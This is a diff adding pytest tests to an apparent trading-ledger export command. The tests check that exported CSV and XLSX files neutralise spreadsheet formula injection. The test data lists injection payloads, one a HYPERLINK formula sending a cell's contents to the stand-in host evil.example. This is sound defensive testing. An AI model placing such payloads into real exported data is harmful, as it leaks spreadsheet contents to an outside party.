@@ -74,3 +74,46 @@ def test_audit_and_run_exports_and_clear_errors(ledger_rows: list[str], tmp_path
     odd = runner.invoke(app, ["export", "orders", "-o", str(tmp_path / "orders.txt")])
     assert odd.exit_code != 0 and "--format" in odd.stderr
     assert not (tmp_path / "orders.txt").exists()
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1"]
+
+
+@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
+def test_formula_looking_text_comes_back_as_text(quantdesk_home: Path, tmp_path: Path, suffix: str) -> None:
+    """OWASP CSV injection: a risk-event reason and an actor that look like formulas stay text;
+    numbers and dates keep their types."""
+    with Ledger() as ledger:
+        for text in FORMULAS:
+            ledger.record_risk_event(code="PRICE_OUTSIDE_BAND", detail=text, intent={"qty": "1"}, approved=False,
+                                     deployment="btc-sma", venue="sim", symbol="BTC/USDT")
+            ledger.audit(text, "order.denied", {"why": text})
+    for kind in ("risk-events", "audit"):
+        path = tmp_path / f"{kind}.{suffix}"
+        result = runner.invoke(app, ["export", kind, "-o", str(path)])
+        assert result.exit_code == 0, result.output
+        column = "detail" if kind == "risk-events" else "actor"
+        if suffix == "xlsx":
+            sheet = load_workbook(path).active
+            header = [c.value for c in sheet[1]]
+            at = header.index(column)
+            cells = [row[at] for row in sheet.iter_rows(min_row=2)]
+            found = [c for c in cells if c.value in FORMULAS]
+            assert len(found) == len(FORMULAS), [c.value for c in cells]
+            assert all(c.data_type == "s" for c in found), [(c.value, c.data_type) for c in found]
+            ts = header.index("ts (UTC)")
+            assert isinstance(next(sheet.iter_rows(min_row=2))[ts].value, datetime), "dates stay dates"
+        else:
+            with path.open(newline="") as f:
+                rows = list(csv.DictReader(f))
+            values = [r[column] for r in rows]
+            assert sorted(v for v in values if v.startswith("'")) == sorted("'" + t for t in FORMULAS)
+            assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in values)
+
+
+def test_numbers_stay_numbers_in_a_neutralised_csv(ledger_rows: list[str], tmp_path: Path) -> None:
+    path = tmp_path / "orders.csv"
+    assert runner.invoke(app, ["export", "orders", "-o", str(path)]).exit_code == 0
+    with path.open() as f:
+        rows = list(csv.DictReader(f))
+    assert float(rows[0]["qty"]) == 0.125 and not rows[0]["qty"].startswith("'")
